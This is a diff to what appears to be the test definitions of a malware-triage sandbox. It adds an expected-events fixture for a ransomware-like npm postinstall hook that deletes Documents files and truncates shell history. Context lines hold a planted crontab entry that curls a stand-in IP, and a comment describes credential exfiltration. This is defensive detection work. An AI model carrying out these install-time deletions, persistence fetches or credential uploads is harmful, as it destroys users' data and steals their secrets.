@@ -319,6 +319,14 @@ triage_built(wheel_crontab_job cronjob sched_sync_agent-0.2.0-py3-none-any.whl 1
   --phase import=ok
   --event "import|exec|path~/.local/bin/crontab|argv~'crontab', '-'"
   --event "import|config-change|path~/.local/share/crontab.txt|added~curl -fsS http://198.51.100.9/u")
+# Ransomware: ~/Documents (notes and a scan in the honeytoken HOME)
+# encrypted and deleted, the shell history emptied; the open that empties
+# a file says how much it held (truncated), a new file says nothing.
+triage_built(npm_ransom_documents ransom node-fs-cleanup-1.3.0.tgz 1 30 -
+  --phase lifecycle:postinstall=ok
+  --event "lifecycle:postinstall|file|op~delete|path~/Documents/notes.md"
+  --event "lifecycle:postinstall|file|op~delete|path~/Documents/passport-scan.pdf"
+  --event "lifecycle:postinstall|file|path~/.bash_history|truncated~")
 # Compressed exfiltration: a gzipped tarball of the credential directories
 # uploaded raw, and the environment zlib-compressed under base64 in a JSON
 # field; the fake network inflates what it is sent before the token scan.
